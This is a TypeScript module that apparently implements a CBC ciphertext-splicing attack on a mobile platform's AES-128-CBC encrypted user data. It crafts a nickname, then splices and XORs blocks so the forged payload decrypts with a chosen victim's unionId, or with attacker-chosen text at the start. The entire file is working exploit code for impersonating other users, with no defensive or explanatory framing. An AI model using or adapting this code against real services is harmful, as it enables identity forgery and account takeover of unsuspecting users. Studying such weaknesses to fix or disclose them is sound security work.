/** Data that were sealed in AES-128-CBC, as the phone has them. */
export interface Ciphertext {
  encryptedData: string;
  iv: string;
}

const BLOCK = 16;

/** The blocks of an iv and a ciphertext: the iv is block -1 of what follows it. */
export function blocksOf({ encryptedData, iv }: Ciphertext): Buffer[] {
  const bytes = Buffer.concat([Buffer.from(iv, "base64"), Buffer.from(encryptedData, "base64")]);
  return Array.from({ length: bytes.length / BLOCK }, (_, i) => bytes.subarray(i * BLOCK, (i + 1) * BLOCK));
}

/** A block that makes the next one, whose plaintext behind `before` is known, open as `wanted`. */
export function blockBefore(before: Buffer, known: Buffer, wanted: Buffer): Buffer {
  return Buffer.from(before.map((byte, i) => byte ^ Number(known[i]) ^ Number(wanted[i])));
}

/** Puts blocks together again; the first is the iv. */
export function joined([iv, ...blocks]: Buffer[]): Ciphertext {
  return {
    encryptedData: Buffer.concat(blocks).toString("base64"),
    iv: (iv as Buffer).toString("base64"),
  };
}

/** The plaintext block at this place, if the plaintext is known. */
export function plainBlock(plaintext: string, index: number): Buffer {
  return Buffer.from(plaintext, "utf8").subarray(index * BLOCK, (index + 1) * BLOCK);
}

/** What opens in front of a victim's unionid. */
const STEM = '","unionId":"';

/**
 * A nickname that becomes a victim's unionid: filler up to the end of a block, then the unionid from the character on that
 * begins a block. `offset` is where the nickname begins in the plaintext.
 */
export function nickNameFor(victim: string, offset: number): string {
  const filler = (BLOCK - (offset % BLOCK)) % BLOCK;
  return "-".repeat(filler) + victim.slice(BLOCK - STEM.length);
}

/**
 * The splice: the blocks up to the end of the filler, one block of garbage, and the unionid with everything behind it once
 * more. In front of it opens `","unionId":"` with the unionid's first three characters, at the price of the garbage.
 *
 */
export function spliceUnionId(sealed: Ciphertext, plaintext: string, victim: string): Ciphertext {
  const [iv, ...blocks] = blocksOf(sealed) as [Buffer, ...Buffer[]];
  // The filler ends where the unionid begins: at a block of its own.
  const at = Buffer.byteLength(plaintext.slice(0, plaintext.indexOf(victim.slice(3)))) / BLOCK;
  const [previous, last] = [blocks[at - 2] as Buffer, at - 1];
  const wanted = Buffer.from(STEM + victim.slice(0, BLOCK - STEM.length));
  const bridge = blockBefore(previous, plainBlock(plaintext, last), wanted);
  return joined([iv, ...blocks.slice(0, at), bridge, ...blocks.slice(last)]);
}

/**
 * Begins at the last block of a known beginning, and lets it open as 16 characters of the attacker's choice: what the iv
 * does to the first block. What follows in the plaintext follows here.
 */
export function beginAt(sealed: Ciphertext, beginning: string, wanted: string): Ciphertext {
  const blocks = blocksOf(sealed);
  const last = beginning.length / BLOCK - 1;
  const iv = blockBefore(blocks[last] as Buffer, plainBlock(beginning, last), Buffer.from(wanted));
  return joined([iv, ...blocks.slice(last + 1)]);
}
